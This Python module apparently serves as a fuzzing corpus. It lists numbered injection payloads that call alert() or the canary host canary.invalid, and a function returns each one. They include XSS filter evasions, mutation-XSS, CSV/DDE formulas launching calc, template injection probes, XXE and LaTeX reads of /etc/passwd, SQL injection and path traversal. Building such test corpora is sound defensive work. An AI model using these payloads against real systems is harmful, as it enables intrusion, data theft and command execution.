"""Texts that would do harm where a program forgets what they are: markup, scripts, formulas, ends of fields.

Each holds `@@` where its own number is to stand. What runs calls `alert` with that number, or asks the host
`canary.invalid` for a path with it; so whoever counts knows which one ran. The families follow OWASP's "XSS Filter
Evasion" and "CSV Injection", the HTML standard's parser states, and RFC 6266 to 8259 for what ends a field.
"""

from __future__ import annotations

import base64

PLACE = "@@"
HOST = "canary.invalid"
# Kept short, so that a field that is cut still holds the whole of it.
_CALL = f"alert({PLACE})"
_RUN = f"<script>{_CALL}</script>"
_PICTURE = f"<img src=x onerror={_CALL}>"
_ENCODED = base64.b64encode(b"<script>top.alert(document.title)</script>").decode()

_SCRIPTS = (
    _RUN,
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script >{_CALL}</script >",
    f"<script/x>{_CALL}</script>",
    f"<script\n>{_CALL}</script>",
    f"<script\f>{_CALL}</script\t>",
    f"<<script>{_CALL}//<</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script>{_CALL}",
    f"<script src=//{HOST}/{PLACE}></script>",
    f'<script src="data:text/javascript,{_CALL}"></script>',
    f"<script type=module>{_CALL}</script>",
    f"<\0script>{_CALL}</script>",
    f"<script\0>{_CALL}</script>",
    f"\0{_RUN}",
    f"\ufeff{_RUN}",
    f"\u200b{_RUN}",
)

_ENDINGS = tuple(
    f"{end}{_RUN}"
    for end in (
        "</script>", "</title>", "</textarea>", "</style>", "</noscript>", "</pre>", "</option></select>", "</svg>",
        "</iframe>", "</template>", "</table>", "</body></html>", "</xmp>", "</main></div></p>", "-->", "--!>",
        "<!-->", "<!--><!--", "]]>", "<![CDATA[", '<?xml version="1.0"?>', "<!doctype html>", '">', "'>", "/>", "\\\">",
        "<plaintext>", "<!--<script>", "<title>", "<textarea>", "<style>", "<noscript>", "<select>", "<table><tr><td>",
    )
)  # fmt: skip

_ENCODINGS = (
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={_CALL}&#x3e;",
    f"&amp;lt;script&amp;gt;{_CALL}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_CALL}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
    f"＜script＞{_CALL}＜/script＞",
    f"¼script¾{_CALL}¼/script¾",
    f"À¼script>{_CALL}À¼/script>",
    f"\u202e>tpircs/<(trela>tpircs<\u202c{_RUN}",
    f"\u2066{_RUN}\u2069",
)

_HANDLERS = (
    _PICTURE,
    f"<img src=x onerror={_CALL}//",
    f"<img/src=x/onerror={_CALL}>",
    f'<IMG SRC=x OnErRoR="{_CALL}">',
    f'<img """>{_RUN}">',
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}//",
    f"<body onload={_CALL}>",
    f"<body onpageshow={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}></select>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}><summary>x</summary></details>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}></audio>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f'<div onmouseover={_CALL} style="position:fixed;inset:0">x</div>',
    f"<a href=# onclick={_CALL}>x</a>",
    f"<style onload={_CALL}></style>",
    f"<link rel=stylesheet href=//{HOST}/{PLACE} onerror={_CALL}>",
    f"<object data=x onerror={_CALL}></object>",
    f"<embed src=x onerror={_CALL}>",
    f"<iframe onload={_CALL}></iframe>",
    f'<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart={_CALL}>x</p>',
    f"<x tabindex=1 autofocus onfocus={_CALL}>x</x>",
    f'<img src=x onerror="\u2028{_CALL}\u2029">',
)

_BREAKOUTS = (
    f'" onmouseover="{_CALL}',
    f'" autofocus onfocus="{_CALL}" x="',
    f"' onmouseover='{_CALL}",
    f"` onmouseover=`{_CALL}",
    f'"/>{_PICTURE}',
    f'" style="position:fixed;inset:0" onmouseover="{_CALL}',
    f"x onmouseover={_CALL} y",
    f"&quot; onmouseover=&quot;{_CALL}",
    f'" srcdoc="{_RUN}',
    f'\\" onmouseover=\\"{_CALL}',
    f'"\n\tonmouseover\n=\n"{_CALL}',
    f'" href="javascript:{_CALL}" x="',
    f'" formaction="javascript:{_CALL}',
)

_ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"java\tscript:{_CALL}",
    f"java\nscript:{_CALL}",
    f"java\0script:{_CALL}",
    f"\x01javascript:{_CALL}",
    f"  javascript:{_CALL}",
    f"javascript&colon;{_CALL}",
    f"&#106;avascript:{_CALL}",
    f"jav&#x09;ascript:{_CALL}",
    f"javascript://%0a{_CALL}",
    f"javascript://x.be/%0a{_CALL}",
    f"https://x.be/%0d%0ajavascript:{_CALL}",
    f'https://x.be/" onmouseover="{_CALL}',
    f"https://x.be/'>{_RUN}",
    f'https://x.be/">{_PICTURE}',
    f"https://x.be/{_RUN}",
    f"http://javascript:{_CALL}@{HOST}/{PLACE}",
    f"data:text/html,{_RUN}",
    f"data:text/html;base64,{_ENCODED}",
    f'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{_CALL}"/>',
    f"vbscript:msgbox({PLACE})",
    f"//{HOST}/{PLACE}",
    f"\\\\{HOST}\\{PLACE}",
    f"file:///etc/passwd#{PLACE}",
    f"view-source:javascript:{_CALL}",
    f"blob:javascript:{_CALL}",
    f'<a href="javascript:{_CALL}">x</a>',
    f'<a href="java&Tab;script:{_CALL}">x</a>',
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"<button form=search-form formaction=javascript:{_CALL}>x</button>",
    f"<iframe src=javascript:{_CALL}></iframe>",
    f'<iframe srcdoc="<script>parent.{_CALL}</script>"></iframe>',
    f"<object data=javascript:{_CALL}></object>",
    f"<embed src=javascript:{_CALL}>",
    f"<base href=//{HOST}/{PLACE}/>",
    f'<meta http-equiv=refresh content="0;url=javascript:{_CALL}">',
    f'<meta http-equiv=Content-Security-Policy content="script-src *">{_RUN}',
    f"<img src=//{HOST}/{PLACE}>",
    f"<link rel=preload as=script href=//{HOST}/{PLACE}>",
    f"<img srcset=//{HOST}/{PLACE}>",
    f"<video poster=//{HOST}/{PLACE}></video>",
)

_FOREIGN = (
    f"<svg><script>{_CALL}</script></svg>",
    f'<svg><script href="data:text/javascript,{_CALL}"/></svg>',
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{_CALL}"><text y=20>x</text></a></svg>',
    f"<svg><foreignObject>{_PICTURE}</foreignObject></svg>",
    f"<svg><style>{_PICTURE}</style></svg>",
    f"<svg><desc><![CDATA[</desc>{_RUN}]]></svg>",
    f'<math href="javascript:{_CALL}">x</math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_CALL}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_PICTURE}",
    f'<svg></p><style><a id="</style>{_PICTURE}">',
    f'<noscript><p title="</noscript>{_PICTURE}">',
    f"<template><script>{_CALL}</script></template>",
    f"<div><template shadowrootmode=open>{_PICTURE}</template></div>",
    f'<xmp><p title="</xmp>{_PICTURE}">',
    f'<textarea><p title="</textarea>{_PICTURE}">',
    f"<listing>&lt;img src=1 onerror={_CALL}&gt;</listing>",
    f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{_CALL}</x:script>',
)

_CLOBBERING = (
    "location",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "document",
    f"<form id=location name=location><input name=href value=javascript:{_CALL}></form>",
    "<img name=getElementById><img name=cookie><form name=body></form>",
    f'<a id=Vraagarchief></a><a id=Vraagarchief name=search href="javascript:{_CALL}">x</a>',
    f"__proto__[innerHTML]={_PICTURE}",
)

_STYLES = (
    f"<style>@import '//{HOST}/{PLACE}';</style>",
    f'<p style="background:url(//{HOST}/{PLACE})">x</p>',
    f'x;background:url("//{HOST}/{PLACE}")',
    f"}}*{{background:url(//{HOST}/{PLACE})}}",
    f"x:expression({_CALL})",
    f"\\65 xpression({_CALL})",
    f"\\3c script\\3e {_CALL}",
)

_SCRIPT_TEXTS = (
    f'"}}</script>{_RUN}',
    f'"}});{_CALL};//',
    f'\\"}});{_CALL};//',
    f'");{_CALL};P("',
    f"');{_CALL};//",
    f'\\",0);{_CALL}//',
    f"\u2028{_CALL}//",
    f"\u2029{_CALL}//",
    f"${{{_CALL}}}",
    f"`+{_CALL}+`",
    f"*/{_CALL}/*",
    f"//\n{_CALL}",
    f"\\\n{_CALL}",
    f"<!--<script></script>{_RUN}",
    f"</SCRIPT\t>{_RUN}",
    f"\r\n\r\n{_RUN}",
)

_TEMPLATES = (
    f"{{{{ {_CALL} }}}}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}",
    f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{PLACE}",
    f"{{% raise {PLACE} %}}",
    f"{{# {PLACE} #}}{_RUN}",
    f"<%= {_CALL} %>",
    f"%(number)s %s %n {PLACE}",
    f"{{0.__class__.__init__.__globals__}}{PLACE}",
    f"$({_CALL})",
    f"<?php echo {PLACE}; ?>",
)

_FORMULAS = (
    f'=HYPERLINK("http://{HOST}/{PLACE}","x")',
    f"=cmd|' /C calc'!A{PLACE}",
    f"+1+cmd|' /C calc'!A{PLACE}",
    f"-2+3+cmd|' /C calc'!A{PLACE}",
    f"@SUM(1+{PLACE})*cmd|' /C calc'!A0",
    f"\t=1+{PLACE}",
    f"\r=1+{PLACE}",
    f"\n=1+{PLACE}",
    f"  =1+{PLACE}",
    f"\u00a0=1+{PLACE}",
    f"\ufeff=1+{PLACE}",
    f"＝1+{PLACE}",
    f"＠SUM({PLACE})",
    f'";=1+{PLACE};"',
    f'",=1+{PLACE},"',
    f'"\r\n=1+{PLACE}',
    f"x;=1+{PLACE}",
    f"'=1+{PLACE}",
    f'=WEBSERVICE("//{HOST}/{PLACE}")',
)

_FIELD_ENDS = (
    f"}}, url = {{javascript:{_CALL}}}, x = {{{PLACE}",
    f'"}}@string{{x="{PLACE}"',
    f"\\input{{/etc/passwd}}{PLACE}",
    f"\\write18{{touch /tmp/{PLACE}}}",
    f"{{{PLACE}",
    f"}}{PLACE}",
    f"@comment{{{PLACE}",
    f"A and B {PLACE} and others",
    f"x\r\nER  - \r\nTY  - JOUR\r\nTI  - {PLACE}",
    f"x\nUR  - javascript:{_CALL}",
    f"x\u2028UR  - javascript:{_CALL}",
    f"x\x85UR  - javascript:{_CALL}",
    f"x\x0bUR  - javascript:{_CALL}",
    f"x\x1cUR  - javascript:{_CALL}",
    f"TY  - {PLACE}",
    f"]]></summary><script>{_CALL}</script>",
    f'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;{PLACE}</x>',
    f'<?xml-stylesheet href="javascript:{_CALL}"?>',
    f"&xxe;{PLACE}",
    f"\x08\x1b[31m{PLACE}\uffff",
    f"'); DROP TABLE questions; --{PLACE}",
    f'" OR "1"="1" --{PLACE}',
    f"../../../../tmp/{PLACE}.html",
    f"C:\\..\\{PLACE}.html",
    f"x/../../index.html#{PLACE}",
    f"titel:{_PICTURE}",
    f'"{_PICTURE}"~5',
    f"((( OF -{_RUN}",
    f"jaar:{PLACE} minister:{_PICTURE} *",
)

TEMPLATES: tuple[str, ...] = (
    *_SCRIPTS, *_ENDINGS, *_ENCODINGS, *_HANDLERS, *_BREAKOUTS, *_ADDRESSES, *_FOREIGN, *_CLOBBERING, *_STYLES,
    *_SCRIPT_TEXTS, *_TEMPLATES, *_FORMULAS, *_FIELD_ENDS,
)  # fmt: skip


def payload(number: int) -> str:
    """The text of a number; the texts come round again after the last, with other numbers in them."""
    return TEMPLATES[number % len(TEMPLATES)].replace(PLACE, str(number))
